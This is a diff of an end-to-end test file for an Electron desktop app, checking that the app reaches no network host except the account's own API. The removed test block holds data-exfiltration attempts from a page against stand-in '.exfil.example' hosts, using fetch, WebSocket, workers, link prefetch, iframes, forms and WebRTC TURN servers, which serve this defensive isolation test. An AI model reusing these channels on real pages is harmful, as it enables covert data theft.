@@ -1,171 +1,169 @@
 import { createSocket } from 'node:dgram';
-import { join } from 'node:path';
 import { once } from 'node:events';
-import { expect } from '../e2e/desktop/index.ts';
-import { connect, DASHBOARD, newProfile, test, WELCOME } from '../e2e/support.ts';
-import { readNetLog, startProxyEar, type NetLog } from './ears.ts';
+import { startDemoServer } from '../../main/demo/server.ts';
+import { expect, type RunningApp } from '../e2e/desktop/index.ts';
+import { connect, connectFirst, DASHBOARD, newProfile, test, TEST_KEY, WELCOME } from '../e2e/support.ts';
+import { TrayReader } from '../e2e/desktop/tray.ts';
+import { listenTo, SILENCE } from './listening.ts';
+import { HAS_OWN_NETWORK } from './own-network.ts';
+import { sendAway } from './page-attacks.ts';
 
-// Nothing is asked of a host but the account's own: a counting proxy beside the app, and Chromium's own record of every
-// name that it looked up, every connection and every datagram, of all its processes.
+// Nothing is asked of a host but the account's own. There are three ears: a proxy that counts, Chromium's own record of
+// every name, connection and datagram of all its processes, and a network of the tests' own with its name server.
 
-const LOOPBACK = /^(?:https?:\/\/)?(?:127\.0\.0\.1|localhost)(?::\d+)?$/;
-const foreign = (names: readonly string[]): string[] => names.filter((name) => !LOOPBACK.test(name));
-const foreignRequests = (log: NetLog): string[] =>
-  log.requested.filter(
-    (url) => !url.startsWith('app://glance/') && !/^(?:http:\/\/127\.0\.0\.1:|data:image\/)/.test(url),
-  );
+test('the ears hear what there is to hear', async ({ launch, desktop }) => {
+  const listening = await listenTo(desktop, 'proof');
+  const app = await launch({ userDataDir: await newProfile(desktop), args: listening.args, env: listening.env });
+  await app.windowWith(WELCOME);
+  await app.act(({ session }) => {
+    void session
+      .fromPartition('proof')
+      .fetch('https://proof.example/')
+      .catch(() => undefined);
+    void session
+      .fromPartition('proof')
+      .fetch('http://10.1.2.3/')
+      .catch(() => undefined);
+  });
+  await app.windowWith('nothing at all', 1_500).catch(() => undefined);
+  await app.close();
+  const heard = await listening.heard();
+  expect(heard.lookedUp.join()).toContain('proof.example');
+  expect(heard.connectedTo.join()).toContain('10.1.2.3');
+  if (HAS_OWN_NETWORK) {
+    expect(heard.outside?.names).toEqual(['proof.example']);
+    expect(heard.outside?.connections).toEqual(['10.1.2.3:80', '10.77.0.1:443']);
+  }
+});
 
 test('first run, sample data, its popover and a start without an account: no host is asked for', async ({
   launch,
   desktop,
+  trayOf,
 }) => {
-  const ear = await startProxyEar();
-  const netLog = join(desktop.home, 'net-demo.json');
-  const app = await launch({
-    userDataDir: await newProfile(desktop),
-    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
-    env: { https_proxy: ear.url, http_proxy: ear.url, no_proxy: '127.0.0.1', TZ: 'UTC' },
-  });
+  const listening = await listenTo(desktop, 'demo', { proxy: true });
+  const app = await launch({ userDataDir: await newProfile(desktop), args: listening.args, env: listening.env });
   const page = await app.windowWith(WELCOME);
   // Text in a field is what spelling is checked in.
   await page.getByLabel('Account ID', { exact: true }).pressSequentially('teh misstake');
   await page.getByText('Explore with sample data').click();
   await expect(page.locator(DASHBOARD)).toBeVisible();
-  await app.act(({ session }) => {
-    // The clean end of the record; quitting would do the same a little later.
-    void session.defaultSession.closeAllConnections();
-  });
+  await openPopover(app, await trayOf(app));
   await app.close();
-  ear.close();
-  const log = readNetLog(netLog);
-  expect(ear.heard).toEqual([]);
-  expect(foreign(log.lookedUp)).toEqual([]);
-  expect(foreignRequests(log)).toEqual([]);
-  expect(foreign(log.connectedTo)).toEqual([]);
-  expect(foreign(log.datagramsTo)).toEqual([]);
-  expect(log.requested.length).toBeGreaterThan(3);
+  const { requestCount, ...heard } = await listening.heard();
+  expect(heard).toEqual(SILENCE);
+  expect(requestCount).toBeGreaterThan(3);
 });
 
-test('an account’s polls ask for its host, and for nothing else', async ({ launch, desktop }) => {
-  const ear = await startProxyEar();
-  const netLog = join(desktop.home, 'net-account.json');
-  const app = await launch({
-    userDataDir: await newProfile(desktop),
-    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
-    env: { https_proxy: ear.url, http_proxy: ear.url, TZ: 'UTC' },
-  });
+/** The popover closes when it loses the focus; having been there is enough. */
+async function openPopover(app: RunningApp, tray: TrayReader): Promise<void> {
+  const opened = app.electron.waitForEvent('window');
+  await tray.activate();
+  const popover = await opened;
+  await popover.waitForLoadState('load').catch(() => undefined);
+}
+
+test('an account’s polls ask the proxy for its host, and for nothing else', async ({ launch, desktop }) => {
+  const listening = await listenTo(desktop, 'proxy', { proxy: true });
+  const app = await launch({ userDataDir: await newProfile(desktop), args: listening.args, env: listening.env });
   const page = await app.windowWith(WELCOME);
   await connect(page);
   await expect(page.getByTestId('connect-problem')).toBeVisible();
   await app.close();
-  ear.close();
-  const log = readNetLog(netLog);
-  expect(new Set(ear.heard)).toEqual(new Set(['CONNECT acme.acquire.io:443']));
-  expect(foreign(log.lookedUp).filter((name) => !/^(?:https:\/\/)?acme\.acquire\.io(?::443)?$/.test(name))).toEqual([]);
-  expect(foreignRequests(log).every((url) => url.startsWith('https://acme.acquire.io/api/'))).toBe(true);
-  expect(foreign(log.datagramsTo)).toEqual([]);
+  const heard = await listening.heard();
+  expect(heard.proxy).toEqual(['CONNECT acme.acquire.io:443']);
+  expect(heard.requested.every((url) => url.startsWith('https://acme.acquire.io/api/'))).toBe(true);
+  expect([heard.connectedTo, heard.datagramsTo]).toEqual([[], []]);
+  if (HAS_OWN_NETWORK) expect(heard.outside).toEqual({ names: [], connections: [], strayDatagrams: 0 });
 });
+
+const SPEED = 1440;
+
+/** Makes the app's time go faster: its clock, and those waits that are long enough to be between polls. */
+function hasten({ startMs, speed }: { readonly startMs: number; readonly speed: number }): void {
+  const RealDate = Date;
+  const nowMs = (): number => startMs + (RealDate.now() - startMs) * speed;
+  const realSetTimeout = setTimeout;
+  globalThis.Date = class extends RealDate {
+    constructor(...parts: unknown[]) {
+      if (parts.length === 0) super(nowMs());
+      else super(...(parts as []));
+    }
+    static override now(): number {
+      return nowMs();
+    }
+  } as DateConstructor;
+  globalThis.setTimeout = ((callback: () => void, delayMs = 0, ...rest: unknown[]) =>
+    realSetTimeout(callback, delayMs > 60_000 ? delayMs / speed : delayMs, ...rest)) as typeof setTimeout;
+}
+
+test('a day of polls, of the popover and of the dashboard: the account’s host and no other', async ({
+  launch,
+  desktop,
+  trayOf,
+}) => {
+  test.skip(!HAS_OWN_NETWORK, 'needs a network of its own, which only root or user namespaces give');
+  const startMs = Date.now();
+  const clock = (): number => startMs + (Date.now() - startMs) * SPEED;
+  const accounts = [{ id: 'acme', apiKey: TEST_KEY, seed: 7, incidents: false }];
+  const server = await startDemoServer({ clock, timeZone: 'UTC', accounts });
+  const listening = await listenTo(desktop, 'day', { host: { name: 'acme.acquire.io', baseUrl: server.baseUrl } });
+  const app = await launch({
+    userDataDir: await newProfile(desktop, { pollIntervalMs: 120_000 }),
+    args: [...listening.args, '--ignore-certificate-errors'],
+    env: listening.env,
+  });
+  await hastenApp(app, startMs);
+  await connectFirst(app);
+  await openPopover(app, await trayOf(app));
+  const polled = (): number => server.requests.filter(({ status }) => status === 200).length;
+  const dayMs = 24 * 60 * 60_000;
+  await expect.poll(() => clock() - startMs > dayMs && polled() > 200, { timeout: 120_000 }).toBe(true);
+  await app.close();
+  const heard = await listening.heard();
+  await server.close();
+  expect(heard.outside).toEqual({
+    names: ['acme.acquire.io'],
+    connections: ['10.77.0.1:443', 'acme.acquire.io'],
+    strayDatagrams: 0,
+  });
+  expect(heard.requested.every((url) => url.startsWith('https://acme.acquire.io/api/'))).toBe(true);
+  process.stdout.write(`    ${String(polled())} polls within a day of the app's clock; one host was asked for\n`);
+});
+
+async function hastenApp(app: RunningApp, startMs: number): Promise<void> {
+  await app.electron.evaluate(
+    (_electron, { source, time }) => {
+      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- into main, where the function is not
+      new Function('time', `(${source})(time)`)(time);
+    },
+    { source: hasten.toString(), time: { startMs, speed: SPEED } },
+  );
+}
 
 test('a page that has been taken over gets nothing out: fetch, WebRTC, name lookups, sockets, workers, frames', async ({
   launch,
   desktop,
 }) => {
-  const ear = await startProxyEar();
   const stun = createSocket('udp4');
   const datagrams: string[] = [];
   stun.on('message', (message) => datagrams.push(message.toString('hex')));
   stun.bind(0, '127.0.0.1');
   await once(stun, 'listening');
-  const netLog = join(desktop.home, 'net-page.json');
-  const app = await launch({
-    userDataDir: await newProfile(desktop),
-    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
-    env: { https_proxy: ear.url, http_proxy: ear.url, no_proxy: '', TZ: 'UTC' },
-  });
+  const listening = await listenTo(desktop, 'page');
+  const app = await launch({ userDataDir: await newProfile(desktop), args: listening.args, env: listening.env });
   const page = await app.windowWith(WELCOME);
-  const outcomes = await page.evaluate(
-    async ({ proxy, stunPort }) => {
-      const tried: Record<string, string> = {};
-      const attempt = async (name: string, work: () => unknown): Promise<void> => {
-        try {
-          await work();
-          tried[name] = 'done';
-        } catch (error) {
-          tried[name] = error instanceof Error ? error.name : 'refused';
-        }
-      };
-      await attempt('fetch', () => fetch(`${proxy}/fetch`));
-      await attempt('fetch https', () => fetch('https://fetch.exfil.example/'));
-      await attempt('beacon', () => {
-        if (!navigator.sendBeacon(`${proxy}/beacon`)) throw new Error('refused');
-      });
-      await attempt(
-        'image',
-        () =>
-          new Promise((resolve, reject) => {
-            const image = new Image();
-            image.onload = resolve;
-            image.onerror = () => reject(new Error('refused'));
-            image.src = `${proxy}/image.png`;
-          }),
-      );
-      await attempt(
-        'socket',
-        () =>
-          new Promise((resolve, reject) => {
-            const socket = new WebSocket('ws://socket.exfil.example/');
-            socket.onopen = resolve;
-            socket.onerror = () => reject(new Error('refused'));
-          }),
-      );
-      await attempt('worker', () => new Worker('data:text/javascript,fetch("http://worker.exfil.example/")'));
-      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet', 'modulepreload']) {
-        const link = document.createElement('link');
-        link.rel = rel;
-        link.href = `https://${rel}.exfil.example/`;
-        document.head.append(link);
-      }
-      const anchor = document.createElement('a');
-      anchor.href = 'https://anchor.exfil.example/';
-      anchor.ping = 'https://ping.exfil.example/';
-      anchor.textContent = 'out';
-      document.body.append(anchor);
-      anchor.click();
-      const frame = document.createElement('iframe');
-      frame.src = 'https://frame.exfil.example/';
-      document.body.append(frame);
-      const form = document.createElement('form');
-      form.action = 'https://form.exfil.example/';
-      document.body.append(form);
-      await attempt('form', () => {
-        form.submit();
-      });
-      const urls = [
-        `stun:127.0.0.1:${stunPort}`,
-        'stun:stun.exfil.example:3478',
-        'turn:turn.exfil.example:3478?transport=udp',
-        'turn:turntcp.exfil.example:3478?transport=tcp',
-        'turns:turns.exfil.example:5349?transport=tcp',
-      ];
-      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
-      peer.createDataChannel('x');
-      await peer.setLocalDescription(await peer.createOffer());
-      await new Promise((resolve) => setTimeout(resolve, 4_000));
-      return tried;
-    },
-    { proxy: ear.url, stunPort: stun.address().port },
-  );
+  const tried = await page.evaluate(sendAway, { base: listening.proxyUrl, stunPort: stun.address().port });
   await app.close();
-  ear.close();
   stun.close();
-  const log = readNetLog(netLog);
-  for (const way of ['fetch', 'fetch https', 'image', 'socket'])
-    expect([way, outcomes[way]]).not.toEqual([way, 'done']);
-  expect(ear.heard).toEqual([]);
+  const { requestCount, requested, ...heard } = await listening.heard();
+  for (const [way, outcome] of Object.entries(tried)) {
+    // Both only begin something: what comes of it is what the ears are for.
+    if (!['worker', 'form', 'beacon'].includes(way)) expect([way, outcome]).not.toEqual([way, 'done']);
+  }
   expect(datagrams).toEqual([]);
-  // Left open by Chromium: WebRTC looks up the names of TURN servers over TCP by itself before it uses the proxy that is
-  // not there. Only these names, and only as questions to the name server.
-  expect(foreign(log.lookedUp).filter((name) => !/^turn(?:s|tcp)\.exfil\.example\.?(?::\d+)?$/.test(name))).toEqual([]);
-  expect(foreign(log.datagramsTo).filter((address) => !address.endsWith(':53'))).toEqual([]);
-  expect(foreign(log.connectedTo)).toEqual([]);
+  const { requested: _refused, ...silence } = SILENCE;
+  expect(heard).toEqual(silence);
+  expect(requestCount).toBeGreaterThan(0);
+  expect(requested.filter((url) => url.startsWith('http'))).toEqual([]);
 });
